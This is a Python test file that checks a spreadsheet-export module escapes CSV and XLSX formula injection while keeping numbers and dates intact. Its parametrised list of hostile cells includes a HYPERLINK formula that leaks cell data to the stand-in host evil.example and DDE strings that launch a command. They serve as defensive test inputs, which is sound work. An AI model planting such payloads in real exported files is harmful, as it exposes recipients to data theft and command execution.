"""Every CSV/XLSX we write neutralises cells a spreadsheet would run as a formula (OWASP CSV
injection), while numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from greenit.core import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
    "- dash",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_becomes_text(text):
    assert spreadsheets.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [Decimal("-1.50"), -3, -2.5, 0, date(2026, 1, 2), "-1.250", "12", "浦江商业银行"]
)
def test_numbers_dates_and_plain_text_are_kept(value):
    assert spreadsheets.safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert spreadsheets.safe_cell(None) == ""


def test_the_csv_keeps_hostile_text_as_text_and_numbers_as_numbers():
    data = spreadsheets.csv_bytes([["name", "kg"], *[[text, Decimal("-1.5")] for text in HOSTILE]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "kg"]
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row == ["'" + text, "-1.5"]


def test_the_xlsx_has_no_formula_cell_and_numbers_stay_numbers():
    data = spreadsheets.xlsx_bytes({"s": [[text, Decimal("-1.5"), -2] for text in HOSTILE]})
    book = load_workbook(io.BytesIO(data))
    for row, text in zip(book["s"].iter_rows(), HOSTILE, strict=True):
        # XML keeps a carriage return as a line feed
        assert row[0].data_type == "s" and row[0].value == "'" + text.replace("\r", "\n")
        assert row[1].data_type == "n" and row[1].value == -1.5
        assert row[2].value == -2
